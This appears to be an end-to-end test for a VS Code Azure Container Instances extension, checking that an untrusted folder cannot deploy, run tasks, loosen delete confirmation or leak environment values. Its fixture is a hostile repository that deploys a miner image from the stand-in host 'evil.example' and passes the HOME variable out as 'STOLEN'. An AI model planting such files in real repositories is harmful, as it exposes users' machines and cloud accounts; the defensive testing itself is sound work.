import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { development } from '../../src/emulator/seed/contoso.ts';
import { openOn, startAzure, type Azure, type WorkbenchOnAzure } from './azure.ts';
import { textEditor } from './pages/textEditor.ts';

/** What somebody put into a repository for those who open it. */
const hostile = {
  'group.yaml': `type: Microsoft.ContainerInstance/containerGroups
name: miner
location: eastus
properties:
  osType: Linux
  containers:
    - name: miner
      properties:
        image: evil.example/miner
        resources: { requests: { cpu: 1, memoryInGB: 1 } }
        environmentVariables: [{ name: STOLEN, secureValue: '\${env:HOME}' }]
`,
  '.vscode/tasks.json': JSON.stringify({
    version: '2.0.0',
    tasks: [
      { type: 'aci', label: 'miner', image: 'alpine', env: { STOLEN: '${env:HOME}' }, problemMatcher: [] },
    ],
  }),
  '.vscode/settings.json': JSON.stringify({ 'aci.deleteConfirmation': 'click' }),
};

describe('In a folder that is not trusted', () => {
  let azure: Azure;
  let workbench: WorkbenchOnAzure;
  let folder: string;

  before(async () => {
    azure = await startAzure();
    azure.add(development, 'rg-playground', 'mine', {
      location: 'eastus',
      containers: [{ name: 'app', image: 'nginx', env: { MODE: 'slow' } }],
    });
    folder = fs.mkdtempSync(path.join(os.tmpdir(), 'aci-e2e-'));
    fs.mkdirSync(path.join(folder, '.vscode'));
    for (const [name, text] of Object.entries(hostile)) fs.writeFileSync(path.join(folder, name), text);
    workbench = await openOn(azure, {
      folder,
      untrusted: true,
      settings: { 'aci.deleteConfirmation': 'typeName' },
    });
  });
  after(async () => {
    await workbench.close();
    await azure.close();
    fs.rmSync(folder, { recursive: true, force: true });
  });

  const restricted = () => workbench.page.locator('.statusbar-item').filter({ hasText: 'Restricted Mode' });
  const deployGroup = async () => {
    await textEditor(workbench.page).open('group.yaml');
    await workbench.palette('Azure Container Instances: Deploy to Azure Container Instances…');
  };

  it('the groups are shown as in any other', async () => {
    await restricted().waitFor();
    await workbench.groups.expand('rg-playground');
    await workbench.groups.row('mine').waitFor();
  });

  it('its files are not deployed, and it is said why and how to change that', async () => {
    await deployGroup();
    await workbench.notifications.says(/Nothing was deployed: you do not trust this folder\./);
    await workbench.screenshot('untrusted-deploy-dark');
    assert.deepEqual(azure.changes(), []);
  });

  it('its settings do not make deleting easier', async () => {
    const { groups, quickPick } = workbench;
    await groups.contextMenu('mine', 'Delete Group…');
    await quickPick.titled('Delete container groups');
    await quickPick.escape();
    await quickPick.closed();
    assert.deepEqual(azure.changes(), []);
  });

  it('no variable of this machine goes into a group: its value is asked for', async () => {
    const { groups, quickPick, page } = workbench;
    const editor = textEditor(page);
    await groups.inlineAction('mine', 'Edit Group');
    await editor.tab('mine.yaml').waitFor();
    await editor.lines.filter({ hasText: 'value: slow' }).waitFor();
    await editor.replace('value: slow', 'secureValue: ${env:HOME}');
    await editor.save();
    await quickPick.titled('Apply changes to "mine"');
    await quickPick.row('Apply and restart').click();
    await quickPick.titled('Apply "mine": Secrets');
    await quickPick.message('Value of HOME, which the document takes from the environment.');
    await workbench.screenshot('untrusted-variable-dark');
    await quickPick.escape();
    await quickPick.closed();
    assert.deepEqual(azure.changes(), []);
    await workbench.palette('File: Revert File');
  });

  it('its tasks do not run: VS Code asks to trust it first', async () => {
    await workbench.palette('Tasks: Run Task');
    await workbench.dialog.says(/trust/i);
    await workbench.screenshot('untrusted-task-dark');
    await workbench.dialog.press('Cancel');
    await workbench.dialog.closed();
    assert.deepEqual(azure.changes(), []);
  });

  it('its files are deployed once it is trusted', async () => {
    await workbench.notifications.press(/Nothing was deployed/, 'Manage Workspace Trust');
    await workbench.page
      .locator('.workspace-trust-editor')
      .getByRole('button', { name: 'Trust' })
      .first()
      .click();
    await restricted().waitFor({ state: 'detached' });
    await deployGroup();
    await workbench.quickPick.titled('Deploy group.yaml: Subscription');
    await workbench.quickPick.escape();
  });
});
